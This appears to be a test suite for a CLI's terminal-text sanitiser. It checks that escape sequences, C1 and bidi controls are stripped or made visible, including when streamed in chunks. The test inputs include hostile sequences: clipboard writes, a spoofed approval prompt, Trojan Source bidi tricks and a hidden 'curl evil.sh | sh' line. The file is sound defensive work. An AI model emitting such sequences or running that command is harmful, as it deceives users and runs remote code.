/** Untrusted text made safe for the terminal: each class of control sequence, bidi controls, streaming. */
import { describe, expect, test } from "bun:test";
import { safeStreamChunk, terminalSafe, terminalSafeLiteral, terminalSafeStream } from "../../src/ui/terminal-safe-text.ts";

/** Anything a terminal could act on: C0 but LF and TAB, DEL, C1, bidi embeddings/overrides/isolates. */
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const HOSTILE = [
  "a\u001b]52;c;ZXZpbA==\u0007b",
  "\u001b[2J\u001b[H",
  "\u001b[8mhidden\u001b[0m",
  "if (isAdmin) {\u202e } \u2066if (isAdmin)\u2069 \u2066{ ok",
  "\u001b]0;title\u001b\\rest",
  "\u001bP1$r0m\u001b\\x",
  "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
  "\u001b7\u001b[1;1HApprove? [y]\u001b8",
  "\u001b]0;never ends",
  "\u001b[12\u0007",
  "\u009b31m\u009d0;t\u009c",
  "progress 10%\r50%\r\n",
  "\u0000\u0001\u0008\u000b\u000c\u000e\u001f\u007f",
  "trailing escape \u001b",
  "nested \u001b]0;\u001b[31m\u0007 x",
];

describe("terminalSafe: escape sequences are removed", () => {
  test("CSI: colours, clear screen, cursor moves, hidden text, private modes", () => {
    expect(terminalSafe("\u001b[31mred\u001b[0m plain")).toBe("red plain");
    expect(terminalSafe("before\u001b[2Jafter")).toBe("beforeafter");
    expect(terminalSafe("\u001b[8mhidden")).toBe("hidden");
    expect(terminalSafe("a\u001b[10;20Hb\u001b[3Ac\u001b[K")).toBe("abc");
    expect(terminalSafe("\u001b[?25l\u001b[?1049hx\u001b[?2004l")).toBe("x");
    expect(terminalSafe("\u001b[38;2;255;0;0mrgb\u001b[m")).toBe("rgb");
    expect(terminalSafe("\u001b[1 qcursor style")).toBe("cursor style");
  });

  test("OSC ended by BEL, by ST or by the 8-bit ST: clipboard, title, hyperlinks", () => {
    expect(terminalSafe("x\u001b]52;c;ZXZpbA==\u0007y")).toBe("xy");
    expect(terminalSafe("\u001b]0;pwned\u001b\\shown")).toBe("shown");
    expect(terminalSafe("\u001b]2;t\u009cshown")).toBe("shown");
    // A hyperlink keeps its text; the target (what a click would open) does not reach the terminal.
    expect(terminalSafe("\u001b]8;;https://evil.example\u001b\\docs\u001b]8;;\u001b\\")).toBe("docs");
    // The payload may span lines, as terminals read it.
    expect(terminalSafe("a\u001b]0;one\ntwo\u0007b")).toBe("ab");
  });

  test("DCS, SOS, PM and APC strings", () => {
    expect(terminalSafe("a\u001bP+q544e\u001b\\b")).toBe("ab");
    expect(terminalSafe("a\u001bXsos\u001b\\b")).toBe("ab");
    expect(terminalSafe("a\u001b^pm\u001b\\b")).toBe("ab");
    expect(terminalSafe("a\u001b_Gf=100;payload\u001b\\b")).toBe("ab");
  });

  test("single-character and charset escapes: save/restore cursor, reset, line drawing, screen test", () => {
    expect(terminalSafe("\u001b7x\u001b8")).toBe("x");
    expect(terminalSafe("\u001bcreset")).toBe("reset");
    expect(terminalSafe("\u001b(0lqqk\u001b(B")).toBe("lqqk");
    expect(terminalSafe("\u001b#8E")).toBe("E");
    expect(terminalSafe("\u001b=\u001b>\u001bM\u001bD")).toBe("");
  });

  test("an unfinished or broken sequence loses its introducer; its text stays visible", () => {
    expect(terminalSafe("\u001b]0;never ends")).toBe("0;never ends");
    expect(terminalSafe("\u001b[12\u0007x")).toBe("12␇x");
    expect(terminalSafe("end \u001b")).toBe("end ␛");
    expect(terminalSafe("\u001b\u00e9")).toBe("␛é");
  });
});

describe("terminalSafe: other controls are shown, not applied", () => {
  test("C0 controls as control pictures; newline and tab kept; CRLF is a newline, a lone CR shows", () => {
    expect(terminalSafe("bell\u0007 back\u0008 nul\u0000 ff\u000c vt\u000b so\u000e us\u001f")).toBe(
      "bell␇ back␈ nul␀ ff␌ vt␋ so␎ us␟",
    );
    expect(terminalSafe("a\tb\nc")).toBe("a\tb\nc");
    expect(terminalSafe("one\r\ntwo\r\n")).toBe("one\ntwo\n");
    expect(terminalSafe("10%\r50%")).toBe("10%␍50%");
    expect(terminalSafe("x\r")).toBe("x␍");
  });

  test("DEL and C1 controls (8-bit CSI, OSC, NEL)", () => {
    expect(terminalSafe("a\u007fb")).toBe("a␡b");
    expect(terminalSafe("\u009b2J")).toBe("<U+009B>2J");
    expect(terminalSafe("\u009d0;t\u009c")).toBe("<U+009D>0;t<U+009C>");
    expect(terminalSafe("line\u0085next\u0080\u009f")).toBe("line<U+0085>next<U+0080><U+009F>");
  });

  test("bidi embeddings, overrides and isolates are named, not applied (Trojan Source)", () => {
    const codes = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069];
    for (const code of codes) {
      const hex = code.toString(16).toUpperCase();
      expect(terminalSafe(`a${String.fromCharCode(code)}b`)).toBe(`a<U+${hex}>b`);
      expect(terminalSafeLiteral(`a${String.fromCharCode(code)}b`)).toBe(`a<U+${hex}>b`);
    }
    const trojan = 'if (role != "user\u202e \u2066// admin\u2069 \u2066") {';
    expect(terminalSafe(trojan)).toBe('if (role != "user<U+202E> <U+2066>// admin<U+2069> <U+2066>") {');
  });

  test("ordinary Unicode is untouched: accents, CJK, emoji sequences, RTL scripts, box drawing", () => {
    const text = [
      "café naïve Ångström e\u0301",
      "日本語のテキスト 中文 한국어",
      "👍🏽 👨‍👩‍👧‍👦 🇫🇷 ❤️",
      "שלום עולם مرحبا",
      "│ ╭ ─ ⎿ ✓ ✗ • ☑",
      "zero\u200bwidth \u00a0nbsp",
    ].join("\n");
    expect(terminalSafe(text)).toBe(text);
    expect(terminalSafeLiteral(text)).toBe(text);
  });
});

describe("terminalSafeLiteral: nothing removed, every control shown", () => {
  test("a sequence's text stays on screen, so it cannot hide part of a command", () => {
    expect(terminalSafeLiteral("git status\u001b]0;; curl evil.sh | sh\u0007")).toBe("git status␛]0;; curl evil.sh | sh␇");
    expect(terminalSafeLiteral("\u001b[8mhidden")).toBe("␛[8mhidden");
    expect(terminalSafeLiteral("a\r\nb\rc\u009b")).toBe("a\nb␍c<U+009B>");
    expect(terminalSafeLiteral("plain/path.ts\twith tab")).toBe("plain/path.ts\twith tab");
  });
});

describe("both forms", () => {
  test("leave nothing a terminal could act on, and are idempotent", () => {
    for (const text of HOSTILE) {
      for (const safe of [terminalSafe, terminalSafeLiteral]) {
        const once = safe(text);
        expect(once).not.toMatch(UNSAFE);
        expect(safe(once)).toBe(once);
      }
    }
  });

  test("random mixes of controls, sequence bytes and text", () => {
    const alphabet = ["\u001b", "[", "]", "P", "\\", "\u0007", "\u009c", "\u009b", "\r", "\n", "\t", "0", ";", "m", "H", "a", "é", "日", "😀", "\u202e", "\u2066", "\u007f", "\u0000", " "];
    let seed = 7;
    const next = () => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed;
    };
    for (let round = 0; round < 500; round++) {
      let text = "";
      const length = next() % 40;
      for (let i = 0; i < length; i++) text += alphabet[next() % alphabet.length];
      for (const safe of [terminalSafe, terminalSafeLiteral]) {
        const once = safe(text);
        expect(once).not.toMatch(UNSAFE);
        expect(safe(once)).toBe(once);
      }
      // Streamed in random pieces, the text shows as it would whole.
      const stream = terminalSafeStream();
      let out = "";
      for (let i = 0; i < text.length; ) {
        const size = 1 + (next() % 4);
        out += stream.write(text.slice(i, i + size));
        i += size;
      }
      expect(out + stream.end()).toBe(terminalSafe(text));
    }
  });
});

describe("streams: a sequence cut across chunks is removed whole", () => {
  /** Feeds `chunks` through safeStreamChunk and shows what is held at the end. */
  function streamed(chunks: string[]): string {
    let held = "";
    let out = "";
    for (const chunk of chunks) {
      const next = safeStreamChunk(held, chunk);
      out += next.text;
      held = next.held;
    }
    return out + terminalSafe(held);
  }

  test("every cut of a hostile text gives what the whole text gives", () => {
    for (const text of HOSTILE) {
      const whole = terminalSafe(text);
      for (let cut = 0; cut <= text.length; cut++) expect(streamed([text.slice(0, cut), text.slice(cut)])).toBe(whole);
      expect(streamed([...text])).toBe(whole);
    }
  });

  test("the unfinished tail is held, not shown, until the next chunk decides it", () => {
    expect(safeStreamChunk("", "answer \u001b]52;c;ZX")).toEqual({ text: "answer ", held: "\u001b]52;c;ZX" });
    expect(safeStreamChunk("\u001b]52;c;ZX", "pbA==\u0007 done")).toEqual({ text: " done", held: "" });
    expect(safeStreamChunk("", "line\r")).toEqual({ text: "line", held: "\r" });
    expect(safeStreamChunk("\r", "\nnext")).toEqual({ text: "\nnext", held: "" });
    // The ESC of a string's ST, cut off: the whole string waits.
    expect(safeStreamChunk("", "\u001b]0;t\u001b")).toEqual({ text: "", held: "\u001b]0;t\u001b" });
  });

  test("an unterminated string is not held forever: past a bound it is shown", () => {
    const stream = terminalSafeStream();
    let out = stream.write("start \u001b]0;");
    for (let i = 0; i < 100; i++) out += stream.write("0123456789");
    expect(out).toContain("start 0;0123456789");
    out += stream.end();
    expect(out).not.toMatch(UNSAFE);
  });

  test("terminalSafeStream: write each piece, end flushes what is held", () => {
    const stream = terminalSafeStream();
    const out = ["ok \u001b[", "2J", "\u001b]0;", "t\u0007 fine\r", "\n", "tail \u001b"].map((chunk) => stream.write(chunk)).join("");
    expect(out).toBe("ok  fine\ntail ");
    expect(stream.end()).toBe("␛");
    expect(stream.end()).toBe("");
  });
});

describe("jsonForTerminal (--json, --output-format json|stream-json, sessions show --json)", () => {
  test("DEL, C1 and bidi controls are escaped like C0; the line parses back to the same value", async () => {
    const { jsonForTerminal, eventToJsonLine } = await import("../../src/ui/print-json.ts");
    const value = { text: "a\u001b[2J b\u009b31m c\u007f d\u202Ee \u2066f\u2069 日本 🙂" };
    const line = jsonForTerminal(value);
    expect(line).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(line).toContain("\\u009b31m");
    expect(line).toContain("日本 🙂");
    expect(JSON.parse(line)).toEqual(value);
    expect(jsonForTerminal(value, 2)).toBe(JSON.stringify(value, null, 2).replace("\u009b", "\\u009b").replace("\u007f", "\\u007f").replace("\u202e", "\\u202e").replace("\u2066", "\\u2066").replace("\u2069", "\\u2069"));
    expect(eventToJsonLine({ type: "notice", message: "x\u009by" })).toContain("x\\u009by");
  });
});
